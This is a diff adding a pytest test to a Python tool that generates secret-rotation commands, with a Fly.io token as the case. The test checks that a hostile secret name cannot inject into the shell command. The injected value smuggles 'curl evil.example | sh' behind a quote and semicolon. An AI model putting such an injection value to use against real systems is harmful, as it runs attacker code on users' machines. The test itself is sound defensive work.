@@ -135,3 +135,19 @@ def test_roots_without_an_automated_fix_get_their_native_command(
     inv, plan = run(tmp_path, scenario, app)
     step = one(inv, plan, code)
     assert any(command in c for c in step["commands"]), step["commands"]  # type: ignore[union-attr]
+
+
+def test_a_secret_name_unfit_for_a_shell_never_reaches_the_rotate_command(tmp_path: Path) -> None:
+    """The rotate command sets the secret the function sends to Fly, named from the platform's secrets list: a
+    name with quotes, `$(` or spaces (platform text is hostile) is not written into a shell command."""
+    from vyxops.advice import next_steps, release_health
+
+    inv, _ = run(tmp_path, "workspaces-fly-token-revoked", "workspaces-app")
+    e = inv.evidence
+    hostile = 'FLY_TOKEN"; curl evil.example | sh; "'
+    fly_named = e.secrets["name"].str.contains("FLY.*(?:TOKEN|KEY)", case=False, na=False, regex=True)
+    assert fly_named.sum() == 1  # the only secret named like a Fly token, which the command would name
+    e.secrets = e.secrets.assign(name=e.secrets["name"].where(~fly_named, hostile))
+    steps = next_steps(e, inv.root, inv.findings, release_health(e))
+    commands = [c for s in steps if s.code == "ROTATE_FLY_TOKEN" for c in s.commands]
+    assert commands and not any("evil.example" in c or '";' in c for c in commands), commands
